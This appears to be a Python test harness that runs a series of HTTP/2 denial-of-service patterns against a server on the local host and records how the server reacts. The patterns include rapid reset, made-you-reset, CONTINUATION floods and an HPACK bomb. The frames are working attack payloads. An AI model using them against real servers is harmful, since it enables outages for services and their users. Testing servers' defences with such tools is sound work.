#!/usr/bin/env python3
"""Attacks an HTTP/2 server on this host, one pattern after another, and tells how it defends itself.

usage: attacks.py PORT [--origin PORT] [--tls NAME] [--frames N] [--only PREFIX] [--json FILE] [--list]

PORT speaks HTTP/2 with prior knowledge, or by ALPN with --tls. Where it sends everything to --origin, this program is the
origin: `/held` is answered never, all else at once, and it counts how many requests for `/held` are in flight at a time.
Nothing is sent without end: an attack is at most N frames (6,000), and each wait has a limit.

For each pattern it prints how many frames had been sent when the server acted, how it acted, which resets it sent, the peak
in flight at the origin, and whether a fresh connection is served afterwards. Exits with 1
if one is not.

Needs the package `hpack`.
"""
import argparse
import json
import select
import socket
import ssl
import struct
import sys
import threading
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PADDED = 1, 1, 4, 8
INITIAL_WINDOW_SIZE = 4
MAX_CONCURRENT_STREAMS = 3
CANCEL = struct.pack(">I", 8)
ERRORS = """NO_ERROR PROTOCOL_ERROR INTERNAL_ERROR FLOW_CONTROL_ERROR SETTINGS_TIMEOUT STREAM_CLOSED FRAME_SIZE_ERROR
REFUSED_STREAM CANCEL COMPRESSION_ERROR CONNECT_ERROR ENHANCE_YOUR_CALM INADEQUATE_SECURITY HTTP_1_1_REQUIRED""".split()

FIRST_ROUND = 50  # Frames before the first look at what the server says; later rounds double.
PATIENCE = 20.0  # Seconds for an answer that should come at once; on a busy machine it does not.
QUIET = 3.0  # Seconds without a byte after which a server that can't be asked is taken to accept what it got.


# -- what is sent ----------------------------------------------------------------------------------------------------


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">IBBI", len(payload) << 8 | kind, flags, 0, 0)[:5] + struct.pack(">I", stream) + payload


def block(method="GET", path="/held", more=()):
    """A header block that leaves nothing in the dynamic table, so that it may be sent any number of times."""
    fields = [(":method", method), (":scheme", "http"), (":authority", "flood.test"), (":path", path), *more]
    pieces = []
    for name, value in fields:
        pieces.append(b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode())
    return b"".join(pieces)


def get(stream, path="/held"):
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, block(path=path))


def post(stream):
    return frame(HEADERS, END_HEADERS, stream, block("POST", more=[("content-length", "9000")]))


def reset(stream):
    return frame(RST_STREAM, 0, stream, CANCEL)


def window(stream, size):
    return frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", size))


def priority(stream, on, weight=16):
    return frame(PRIORITY, 0, stream, struct.pack(">IB", on, weight))


def long_field(index, length):
    """A literal field `x-long` of so many bytes; `index` is the first byte, which says whether the table keeps it."""
    rest, size = length - 127, b""
    while rest >= 128:
        size += bytes([rest % 128 | 128])
        rest //= 128
    return bytes([index]) + b"\x06x-long\x7f" + size + bytes([rest]) + b"v" * length


# -- a connection ----------------------------------------------------------------------------------------------------


class Link:
    """A connection that never waits for the server to read: it takes in whatever comes while it sends."""

    def __init__(self, port, name, settings=b""):
        self.socket = socket.create_connection(("127.0.0.1", port), PATIENCE)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.tls = self.shake_hands(name) if name else None
        self.socket.setblocking(False)
        self.buffer, self.decoder = b"", hpack.Decoder()
        self.goaway = self.last_stream = self.settings = None
        self.is_closed = False
        self.resets, self.statuses = {}, {}
        self.pongs = 0
        self.exchange(PREFACE + frame(SETTINGS, 0, 0, settings))
        self.until(lambda: self.settings is not None, PATIENCE)

    def shake_hands(self, name):
        """TLS over buffers of ours: what is read and what is sent must not wait for one another."""
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        self.inward, self.outward = ssl.MemoryBIO(), ssl.MemoryBIO()
        tls = context.wrap_bio(self.inward, self.outward, server_hostname=name)
        while True:
            try:
                tls.do_handshake()
            except ssl.SSLWantReadError:
                self.socket.sendall(self.outward.read())
                self.inward.write(self.socket.recv(65536))
            else:
                break
        self.socket.sendall(self.outward.read())
        if tls.selected_alpn_protocol() != "h2":
            raise OSError("no h2 by ALPN")
        return tls

    def exchange(self, data, patience=PATIENCE):
        """Sends all of it, unless the server ends the connection or takes nothing for so long; says whether it did."""
        if self.tls:
            self.tls.write(data)
            data = self.outward.read()
        return self.move(data, patience)

    def move(self, data, patience):
        view = memoryview(data)
        while view:
            if self.is_closed:
                return False
            readable, writable, _ = select.select([self.socket], [self.socket], [], patience)
            if not readable and not writable:
                return False
            if readable:
                self.take()
            if writable:
                try:
                    view = view[self.socket.send(view):]
                except BlockingIOError:
                    pass
                except OSError:
                    # What the server said before is still to be read.
                    while not self.is_closed:
                        self.take()
                    return False
        return True

    def take(self):
        """Reads what is there."""
        try:
            data = self.socket.recv(1 << 18)
        except BlockingIOError:
            return
        except OSError:
            data = b""
        if not data:
            self.is_closed = True
            return
        if self.tls:
            self.inward.write(data)
            data = b""
            try:
                while piece := self.tls.read(1 << 18):
                    data += piece
            except ssl.SSLWantReadError:
                pass
            except ssl.SSLError:
                self.is_closed = True
        self.buffer += data
        at = 0
        while len(self.buffer) - at >= 9:
            length, kind, flags = int.from_bytes(self.buffer[at:at + 3], "big"), self.buffer[at + 3], self.buffer[at + 4]
            stream = int.from_bytes(self.buffer[at + 5:at + 9], "big") & 0x7FFFFFFF
            if len(self.buffer) - at - 9 < length:
                break
            self.hear(kind, flags, stream, self.buffer[at + 9:at + 9 + length])
            at += 9 + length
        self.buffer = self.buffer[at:]

    def hear(self, kind, flags, stream, payload):
        if kind == GOAWAY:
            self.last_stream, code = struct.unpack(">II", payload[:8])
            # A first, polite one may come before the one that says why.
            self.goaway = code if not self.goaway else self.goaway
        elif kind == RST_STREAM:
            code = error(struct.unpack(">I", payload)[0])
            self.resets[code] = self.resets.get(code, 0) + 1
        elif kind == SETTINGS and not flags & ACK:
            self.settings = (self.settings or {}) | dict(struct.iter_unpack(">HI", payload))
        elif kind == PING and flags & ACK:
            self.pongs += 1
        elif kind == HEADERS:
            fields = dict(self.decoder.decode(payload))
            self.statuses.setdefault(stream, fields.get(":status"))

    def until(self, holds, patience):
        """Reads until something is so, the connection has ended, or that long nothing came."""
        while not holds() and not self.is_closed:
            readable, _, _ = select.select([self.socket], [], [], patience)
            if not readable:
                break
            self.take()
        return holds()

    def has_acted(self):
        return self.is_closed or self.goaway is not None

    def processed(self):
        """Waits until the server has taken up everything so far, or acted."""
        before = self.pongs
        if self.exchange(frame(PING, 0, 0, b"are-you?")):
            self.until(lambda: self.pongs > before or self.has_acted(), PATIENCE)

    def close(self):
        self.socket.close()


def error(code):
    return ERRORS[code] if code < len(ERRORS) else str(code)


# -- the origin ------------------------------------------------------------------------------------------------------


class Origin:
    """Holds requests for `/held`, and counts those whose connections are open."""

    def __init__(self, port):
        self.listener = socket.create_server(("127.0.0.1", port), backlog=1024)
        self.lock = threading.Lock()
        self.held, self.peak, self.total = {}, 0, 0
        threading.Thread(target=self.accept, daemon=True).start()

    def accept(self):
        while True:
            stream, _ = self.listener.accept()
            threading.Thread(target=self.converse, args=(stream,), daemon=True).start()

    def converse(self, stream):
        data = b""
        try:
            while True:
                while b"\r\n\r\n" not in data:
                    piece = stream.recv(65536)
                    if not piece:
                        return
                    data += piece
                head, _, data = data.partition(b"\r\n\r\n")
                if head.split(b" ")[1] == b"/held":
                    self.hold(stream)
                    return
                stream.sendall(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nhi")
        except OSError:
            pass
        finally:
            stream.close()

    def hold(self, stream):
        poll = select.poll()
        with self.lock:
            self.held[stream.fileno()] = stream
            self.total += 1
            for number in self.held:
                poll.register(number, select.POLLRDHUP)
            # Those that the gateway has closed are over, whether or not their threads have noticed.
            self.peak = max(self.peak, len(self.held) - len(poll.poll(0)))
        try:
            while stream.recv(65536):
                pass
        finally:
            with self.lock:
                del self.held[stream.fileno()]

    def start_over(self):
        """Forgets the counts, when nothing is held any more."""
        end = time.monotonic() + PATIENCE
        while self.held and time.monotonic() < end:
            time.sleep(0.01)
        with self.lock:
            self.peak = self.total = 0


# -- the patterns ----------------------------------------------------------------------------------------------------

ATTACKS = {}


class Attack:
    """One pattern: `frames` yields what is sent, one entry a frame or a group that belongs together."""

    def __init__(self, frames, limit, can_ask, settings):
        self.frames, self.limit, self.can_ask, self.settings = frames, limit, can_ask, settings


def attack(name, limit=10**9, can_ask=True, settings=b""):
    """Registers a pattern. Where it leaves a header block open no PING may be sent (`can_ask`)."""

    def register(frames):
        ATTACKS[name] = Attack(frames, limit, can_ask, settings)
        return frames

    return register


def streams():
    """Stream identifiers of a client, without end."""
    number = 1
    while True:
        yield number
        number += 2


@attack("rapid-reset")
def rapid_reset():
    """CVE-2023-44487"""
    for stream in streams():
        yield get(stream) + reset(stream)


@attack("reset-before-end")
def reset_before_end():
    """The same with uploads that never begin."""
    for stream in streams():
        yield post(stream) + reset(stream)


def made_you_reset(name, trigger):
    """CVE-2025-8671: the client breaks a rule, and the server resets."""

    @attack(f"made-you-reset-{name}", limit=2000)
    def frames():
        for stream in streams():
            yield get(stream) + trigger(stream)


made_you_reset("window-zero", lambda stream: window(stream, 0))
made_you_reset("window-overflow", lambda stream: window(stream, 2**31 - 1))
made_you_reset("priority-short", lambda stream: frame(PRIORITY, 0, stream, bytes(4)))
made_you_reset("priority-self", lambda stream: priority(stream, stream))
made_you_reset("headers-after-end", get)
made_you_reset("data-after-end", lambda stream: frame(DATA, 0, stream, b"more"))


@attack("malformed-requests", limit=2000)
def malformed_requests():
    """A name in upper case: a stream error each (RFC 9113 section 8.2.1)."""
    for stream in streams():
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, block(more=[("Upper", "case")]))


@attack("continuation", can_ask=False)
def continuation():
    yield frame(HEADERS, END_STREAM, 1, block())
    while True:
        yield frame(CONTINUATION, 0, 1, long_field(0, 400))


@attack("continuation-empty", can_ask=False)
def continuation_empty():
    yield frame(HEADERS, END_STREAM, 1, block())
    while True:
        yield frame(CONTINUATION, 0, 1)


@attack("continuation-tiny", can_ask=False)
def continuation_tiny():
    """One byte a frame, of one field that never ends."""
    yield frame(HEADERS, END_STREAM, 1, block() + long_field(0, 60000)[:20])
    while True:
        yield frame(CONTINUATION, 0, 1, b"v")


@attack("hpack-bomb", limit=200)
def hpack_bomb():
    """One entry of 400 bytes, and 16,000 references to it in each request."""
    for stream in streams():
        more = long_field(0x40, 400) if stream == 1 else b"\xbe" * 16000
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, block(path="/quick") + more)


@attack("settings")
def settings():
    while True:
        yield frame(SETTINGS, 0, 0)


@attack("settings-entries", limit=50)
def settings_entries():
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 0xFFF0, 1) * 2730)


@attack("ping")
def ping():
    while True:
        yield frame(PING, 0, 0, b"flooding")


@attack("priority")
def priorities():
    for number in streams():
        yield priority(number % 10000, 0)


@attack("window-update")
def window_updates():
    while True:
        yield window(0, 1)


@attack("window-update-stream")
def window_updates_of_a_stream():
    yield get(1)
    while True:
        yield window(1, 1)


@attack("unknown-type")
def unknown_type():
    while True:
        yield frame(0xFA, 0, 0, b"?")


@attack("empty-data")
def empty_data():
    yield post(1)
    while True:
        yield frame(DATA, 0, 1)


@attack("padded-data")
def padded_data():
    """Nothing but padding; all of it fits into the first window."""
    yield post(1)
    while True:
        yield frame(DATA, PADDED, 1, b"\x09" + bytes(9))


@attack("one-byte-data")
def one_byte_data():
    yield post(1)
    while True:
        yield frame(DATA, 0, 1, b"x")


@attack("streams-at-once", limit=1000)
def streams_at_once():
    for stream in streams():
        yield post(stream)


@attack("reset-twice")
def reset_twice():
    yield get(1) + reset(1)
    while True:
        yield reset(1)


@attack("goaway")
def goaways():
    while True:
        yield frame(GOAWAY, 0, 0, bytes(8))


@attack("push-promise")
def push_promises():
    """Only servers may promise: a connection error (RFC 9113 section 8.4)."""
    while True:
        yield frame(PUSH, END_HEADERS, 1, struct.pack(">I", 2) + block())


@attack("window-zero-stall", limit=50, settings=struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
def window_zero_stall():
    """Answers may not be sent, and are never asked for again."""
    for stream in streams():
        yield get(stream, "/quick")


# -- one attack after another ----------------------------------------------------------------------------------------


def strike(link, pattern, most):
    """Sends until the server acts; returns how many frames were sent."""
    sent, size, most = 0, FIRST_ROUND, min(most, pattern.limit)
    frames = pattern.frames()
    while sent < most and not link.has_acted():
        size = min(size, most - sent)
        went = link.exchange(b"".join(next(frames) for _ in range(size)))
        sent += size
        if not went:
            break
        if pattern.can_ask:
            link.processed()
        else:
            link.until(link.has_acted, QUIET)
        size *= 2
    # What a GOAWAY announces, and whatever was said before.
    if link.has_acted():
        link.until(lambda: link.is_closed, QUIET)
    return sent


def serves(options):
    """Whether a fresh connection gets an answer."""
    try:
        link = Link(options.port, options.tls)
        link.exchange(get(1, "/quick"))
        link.until(lambda: 1 in link.statuses, PATIENCE)
        link.close()
        return link.statuses.get(1) == "200"
    except OSError:
        return False


def run(options, origin, name):
    pattern = ATTACKS[name]
    if origin:
        origin.start_over()
    link = Link(options.port, options.tls, pattern.settings)
    sent = strike(link, pattern, options.frames)
    acted = f"GOAWAY {error(link.goaway)}" if link.goaway is not None else "nothing"
    result = {
        "frames": sent,
        "acted": "closed" if link.goaway is None and link.is_closed else acted,
        "closed": link.is_closed,
        "last_stream": link.last_stream,
        "resets": link.resets,
        "answers": len(link.statuses),
        "limit": (link.settings or {}).get(MAX_CONCURRENT_STREAMS),
        # While the attacker's connection is there, if the server has left it open.
        "serves": serves(options),
    }
    if origin:
        result |= {"peak": origin.peak, "total": origin.total}
    link.close()
    return result


def show(name, result):
    resets = " ".join(f"{code}:{count}" for code, count in result["resets"].items())
    in_flight = f"{result['peak']:4} of {result['total']:4}" if "peak" in result else "-"
    print(
        f"{name:34} {result['frames']:5}  {result['acted']:26} {'closed' if result['closed'] else 'open':6}  "
        f"{in_flight:12}  {'yes' if result['serves'] else 'NO':5} {resets}",
        flush=True,
    )


def main():
    parser = argparse.ArgumentParser(description=__doc__.partition("\n")[0])
    parser.add_argument("port", type=int, nargs="?")
    parser.add_argument("--origin", type=int, help="be the origin on this port")
    parser.add_argument("--tls", metavar="NAME", help="speak TLS, with this SNI")
    parser.add_argument("--frames", type=int, default=6000, help="frames of one attack, at most (default: 6000)")
    parser.add_argument("--only", default="", help="patterns that begin so")
    parser.add_argument("--json", help="write the results there, too")
    parser.add_argument("--list", action="store_true", help="name the patterns, and end")
    options = parser.parse_args()
    names = [name for name in ATTACKS if name.startswith(options.only)]
    if options.list:
        print("\n".join(names))
        return
    if options.port is None or not names:
        parser.error("a port and a pattern are needed")
    origin = Origin(options.origin) if options.origin else None
    print(f"{'pattern':34} {'sent':>5}  {'what the server did':26} {'then':6}  {'in flight':12}  {'fresh':5} resets")
    results = {}
    for name in names:
        results[name] = run(options, origin, name)
        show(name, results[name])
    if options.json:
        with open(options.json, "w", encoding="utf-8") as file:
            json.dump(results, file, indent=1)
    sys.exit(0 if all(result["serves"] for result in results.values()) else 1)


main()
